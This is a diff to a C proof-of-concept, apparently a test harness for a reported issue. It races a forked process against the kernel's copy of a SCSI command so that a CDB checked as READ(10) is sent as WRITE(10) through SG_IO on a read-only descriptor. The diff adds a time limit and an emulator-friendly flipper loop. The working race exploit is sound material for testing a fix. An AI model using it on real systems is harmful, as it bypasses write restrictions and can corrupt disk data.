@@ -2,7 +2,7 @@
  * ag-sgio-race - the SG_IO double read (issue 29's attack): a command checked
  * as READ(10) in user memory and run as WRITE(10) after the kernel's own copy.
  *
- *   ag-sgio-race DEVICE LBA TRIES
+ *   ag-sgio-race DEVICE LBA TRIES [SECONDS]
  *
  * Opens DEVICE (an sd, sg or bsg node of a SCSI disk) read-only. The CDB lives
  * in a page shared (MAP_SHARED|MAP_ANONYMOUS) with a forked flipper process
@@ -14,7 +14,10 @@
  * between, a WRITE(10) reaches the disk (the kernel itself lets a caller with
  * CAP_SYS_RAWIO send write commands on a read-only descriptor). Reads the LBA
  * before (it must not hold the marker) and after (O_DIRECT) and prints
- * "tries=N ok=K refused=R other=E landed=yes|no". Exit 0 if a WRITE landed
+ * "tries=N ok=K refused=R other=E landed=yes|no". It stops after TRIES calls
+ * or SECONDS (default 20), whichever comes first. The flipper changes the
+ * opcode once per loop round, so that an emulator that switches CPUs only
+ * between translated blocks (QEMU's one-thread TCG) sees both. Exit 0 if a WRITE landed
  * (the attack succeeded), 1 if none did, 2 on a setup error.
  */
 #define _GNU_SOURCE
@@ -28,6 +31,7 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #define BS 512
@@ -68,13 +72,14 @@ static int read_lba(const char *dev, int fd, unsigned lba, char *out)
 
 int main(int argc, char **argv)
 {
-	if (argc != 4) {
-		fprintf(stderr, "usage: ag-sgio-race DEVICE LBA TRIES\n");
+	if (argc != 4 && argc != 5) {
+		fprintf(stderr, "usage: ag-sgio-race DEVICE LBA TRIES [SECONDS]\n");
 		return 2;
 	}
 	const char *dev = argv[1];
 	unsigned lba = strtoul(argv[2], NULL, 0);
 	long tries = strtol(argv[3], NULL, 0);
+	time_t end = time(NULL) + (argc == 5 ? strtol(argv[4], NULL, 0) : 20);
 	if (tries < 1) {
 		fprintf(stderr, "ag-sgio-race: TRIES must be a positive number\n");
 		return 2;
@@ -108,17 +113,16 @@ int main(int argc, char **argv)
 	if (flipper < 0)
 		return 2;
 	if (flipper == 0) {
-		while (!*stop) {
-			cdb[0] = 0x2a;
-			cdb[0] = 0x28;
-		}
+		for (unsigned char v = 0x2a; !*stop; v ^= 0x28 ^ 0x2a)
+			cdb[0] = v;
 		_exit(0);
 	}
 	long ok = 0, refused = 0, other = 0;
 	int other_errno = 0;
 	unsigned char sense[32];
 	char data[BS];
-	for (long i = 0; i < tries; i++) {
+	long i;
+	for (i = 0; i < tries && ((i & 63) || time(NULL) < end); i++) {
 		memcpy(data, marker, BS);
 		sg_io_hdr_t h = { .interface_id = 'S',
 				  .dxfer_direction = SG_DXFER_TO_DEV,
@@ -145,7 +149,7 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	int landed = !memcmp(after, marker, BS);
-	printf("tries=%ld ok=%ld refused=%ld other=%ld%s%s landed=%s (LBA %u)\n", tries, ok, refused, other,
+	printf("tries=%ld ok=%ld refused=%ld other=%ld%s%s landed=%s (LBA %u)\n", i, ok, refused, other,
 	       other ? " last_other=" : "", other ? strerror(other_errno) : "", landed ? "yes" : "no", lba);
 	return landed ? 0 : 1;
 }
